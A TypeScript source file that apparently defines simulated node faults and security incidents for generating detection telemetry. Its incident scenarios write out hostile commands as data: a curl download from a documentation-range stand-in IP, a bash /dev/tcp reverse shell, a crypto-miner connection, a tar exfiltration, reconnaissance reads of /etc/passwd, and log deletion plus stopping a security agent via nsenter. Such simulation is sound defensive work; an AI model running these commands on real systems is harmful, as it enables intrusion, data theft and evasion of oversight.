/** The faults and security incidents of simulated nodes; magnitudes and rates are near those of re-enactments on a real machine. */

import { type Attack, leak, miner as minerAttack, shell, storm } from "../attacks.ts";
import type { Random } from "../random.ts";
import type { Command, Deed } from "./process.ts";
import type { Act, Scenario } from "./scenario.ts";

const megabyte = 1_000_000;
const root = 0;

const cpuStress: Scenario = {
  name: "cpu-stress",
  class: "faulty",
  title: "CPU stress",
  strength: [1, 1.6],
  node: { cores: 1.05 },
  attack: attack("cpu-stress", "faulty", {
    resource: { cpu_ns: 5_200_000_000, user_faults: 260, vm_mmap_bytes: 1_200_000 },
    syscalls: { sched_yield: 30, futex: 90, getpid: 40 },
  }),
};

const memoryLeak: Scenario = {
  name: "memory-leak",
  class: "faulty",
  title: "a memory leak",
  strength: [0.8, 1.5],
  node: { cores: 0.12, memoryGrowth: 45 * megabyte },
  attack: leak,
};

const packetLoss: Scenario = {
  name: "packet-loss",
  class: "faulty",
  title: "packet loss",
  strength: [1, 2],
  node: { loss: 0.25 },
};

const diskFull: Scenario = {
  name: "disk-full",
  class: "faulty",
  title: "a full disk",
  strength: [0.9, 1.4],
  node: { cores: 0.5, waiting: 0.2, diskGrowth: 3000 * megabyte },
  attack: attack("disk-full", "faulty", {
    resource: { cpu_ns: 450_000_000, user_faults: 600, bytes_written: 120 * megabyte, bytes_read: 110 * megabyte },
    syscalls: { openat: 60, write: 900, read: 880, fsync: 30, close: 60 },
  }),
  // What cannot write ends and is started again.
  acts: () => [
    repeated(5, 2.5, () => ({
      command: { binary: "/bin/sh", arguments: "-c /entrypoint.sh", lifetimeMs: 900, status: 28 },
    })),
  ],
};

const droppedBinary: Scenario = {
  name: "dropped-binary",
  class: "security_incident",
  title: "a dropped binary",
  strength: [0.8, 2],
  node: { cores: 0.08, networkOut: 20_000 },
  attack: attack("dropped-binary", "security_incident", {
    process: { comm: ".upd", user: "root", uid: root },
    resource: {
      cpu_ns: 40_000_000,
      user_faults: 1500,
      kernel_faults: 40,
      vm_mmap_bytes: 12_000_000,
      bytes_read: 400_000,
    },
    syscalls: { execve: 5, openat: 420, getdents64: 600, newfstatat: 900, connect: 2, close: 430, mmap: 60 },
  }),
  acts: (random) => {
    const uid = random.chance(0.6) ? root : 1000;
    const binary = dropped(random);
    return [
      once(0, {
        command: { binary: "/usr/bin/curl", arguments: `-s -o ${binary} http://198.51.100.23/u`, lifetimeMs: 700, uid },
      }),
      once(0.8, { command: { binary: "/usr/bin/chmod", arguments: `+x ${binary}`, lifetimeMs: 5, uid } }),
      repeated(1, 1, () => ({ command: { binary, arguments: "/etc", lifetimeMs: 600, uid } })),
    ];
  },
};

const processStorm: Scenario = {
  name: "process-storm",
  class: "security_incident",
  title: "a process storm",
  strength: [0.7, 2],
  node: { cores: 0.45 },
  attack: { ...storm, class: "security_incident" },
  acts: () => [repeated(0, 1 / 40, (random) => ({ command: random.pick(stormCommands) }))],
};

const reverseShell: Scenario = {
  name: "reverse-shell",
  class: "security_incident",
  title: "a reverse shell",
  strength: [0.7, 1.5],
  node: { cores: 0.05, networkOut: 15_000, networkIn: 4000 },
  attack: shell,
  acts: (random) => {
    const service = { address: foreign(random), port: random.pick([4444, 4444, 1337, 5555, 9001]) };
    const connect: Deed = { client: "/usr/bin/bash", uid: root, service, failed: false };
    return [
      once(0, {
        command: {
          binary: "/usr/bin/bash",
          arguments: `-c "bash -i >& /dev/tcp/${service.address}/${service.port}"`,
          lifetimeMs: 1e8,
          uid: root,
        },
      }),
      repeated(0.1, 15, () => connect),
      repeated(1, 0.4, (each) => ({ command: each.pick(typed) })),
    ];
  },
};

const miner: Scenario = {
  name: "miner",
  class: "security_incident",
  title: "a miner",
  strength: [0.9, 1.6],
  node: { cores: 0.98, networkOut: 3000, networkIn: 2000 },
  attack: minerAttack,
  acts: (random) => {
    const service = { address: foreign(random), port: random.pick([3333, 3333, 4444, 5555, 7777, 14444]) };
    const binary = dropped(random);
    return [
      once(0, {
        command: {
          binary,
          arguments: `-o stratum+tcp://${service.address}:${service.port}`,
          lifetimeMs: 1e8,
          uid: root,
        },
      }),
      repeated(0.5, 8, () => ({ client: binary, uid: root, service, failed: false })),
      repeated(2, 6, () => ({ command: { binary, arguments: "--bench", lifetimeMs: 900, uid: root } })),
    ];
  },
};

const slowExfiltration: Scenario = {
  name: "slow-exfiltration",
  class: "security_incident",
  title: "slow exfiltration",
  strength: [0.8, 1.8],
  node: { cores: 0.06, networkOut: 0.6 * megabyte, networkDoublesAfter: 12 },
  attack: attack("slow-exfiltration", "security_incident", {
    process: { comm: "tar", user: "root", uid: root },
    resource: { cpu_ns: 150_000_000, user_faults: 90, bytes_written: 3 * megabyte, bytes_read: 3.1 * megabyte },
    syscalls: { openat: 40, read: 320, sendto: 310, poll: 90, newfstatat: 40, getdents64: 10, close: 40, connect: 5 },
    doublesAfter: 12,
  }),
  acts: (random) => {
    const service = { address: foreign(random), port: random.pick([443, 8443, 9002]) };
    return [
      repeated(0, 4, () => ({
        command: { binary: "/usr/bin/tar", arguments: "czf - /var/lib/data", lifetimeMs: 900, uid: root },
      })),
      repeated(0.1, 1, () => ({ client: "/usr/bin/bash", uid: root, service, failed: false })),
    ];
  },
};

const logTampering: Scenario = {
  name: "log-tampering",
  class: "security_incident",
  title: "tampering with logs",
  strength: [1, 1],
  node: {},
  attack: shell,
  // Nobody silences what has not been found first.
  acts: () => [
    repeated(0, 0.8, (random) => ({ command: random.pick(typed) })),
    once(6, asHost("/usr/bin/truncate", "-s 0 /var/log/audit/audit.log")),
    once(7.5, asHost("/usr/bin/rm", "-rf /var/log/journal")),
    once(9, asHost("/usr/bin/systemctl", "stop tetragon ebpf-agent")),
  ],
  silentAfter: 10,
};

/**
 * Nobody's fault, so it is placed by hand alone. The node is off for half a minute; then its processes start, all at once, and
 * its counters begin anew.
 */
export const reboot: Scenario = {
  name: "reboot",
  class: "faulty",
  title: "a reboot",
  strength: [0.8, 1.5],
  node: { cores: 0.4, waiting: 0.1 },
  off: 30,
  acts: () => [repeated(30.5, 1 / 8, (random) => ({ command: random.pick(booting) }))],
};

export const scenarios: readonly [Scenario, ...Scenario[]] = [
  cpuStress,
  memoryLeak,
  packetLoss,
  diskFull,
  droppedBinary,
  processStorm,
  reverseShell,
  miner,
  slowExfiltration,
  logTampering,
];

const booting: readonly [Command, ...Command[]] = [
  { binary: "/usr/bin/mount", arguments: "-t overlay overlay /run/containerd/rootfs", lifetimeMs: 15, uid: root },
  { binary: "/usr/sbin/iptables-restore", arguments: "--noflush", lifetimeMs: 40, uid: root },
  { binary: "/usr/bin/containerd-shim-runc-v2", arguments: "-namespace k8s.io start", lifetimeMs: 120, uid: root },
  { binary: "/pause", arguments: "", lifetimeMs: 1e8, uid: 65_535 },
];

const stormCommands: readonly [Command, ...Command[]] = [
  { binary: "/bin/true", arguments: "", lifetimeMs: 3, uid: root },
  { binary: "/bin/sh", arguments: "-c :", lifetimeMs: 6, uid: root },
];

/** What somebody types who looks around. */
const typed: readonly [Command, ...Command[]] = [
  { binary: "/usr/bin/id", arguments: "", lifetimeMs: 4, uid: root },
  { binary: "/usr/bin/uname", arguments: "-a", lifetimeMs: 4, uid: root },
  { binary: "/usr/bin/cat", arguments: "/etc/passwd", lifetimeMs: 5, uid: root },
  { binary: "/usr/bin/ps", arguments: "aux", lifetimeMs: 30, uid: root },
  { binary: "/usr/bin/find", arguments: "/etc -perm -4000", lifetimeMs: 120, uid: root },
  { binary: "/usr/bin/env", arguments: "", lifetimeMs: 4, uid: root },
  { binary: "/usr/bin/ss", arguments: "-tn", lifetimeMs: 12, uid: root },
];

function attack(name: string, of: Attack["class"], does: Omit<Attack, "name" | "class" | "title">): Attack {
  return { name, class: of, title: name, ...does };
}

function once(after: number, deed: Deed): Act {
  return { after, deed: () => deed };
}

function repeated(after: number, every: number, deed: Act["deed"]): Act {
  return { after, every, deed };
}

/** Out of the container, by the host's own namespaces. */
function asHost(binary: string, rest: string): Deed {
  return {
    command: { binary: "/usr/bin/nsenter", arguments: `-t 1 -m -u -i -n ${binary} ${rest}`, lifetimeMs: 60, uid: root },
  };
}

/** Where attackers leave what they bring: anyone may write there. */
function dropped(random: Random): string {
  return `${random.pick(["/tmp", "/dev/shm"])}/.${random.hex(random.integer(2, 6))}`;
}

/** An address of the blocks that are for documentation (RFC 5737). */
function foreign(random: Random): string {
  return `${random.pick(["198.51.100", "203.0.113"])}.${random.integer(2, 250)}`;
}
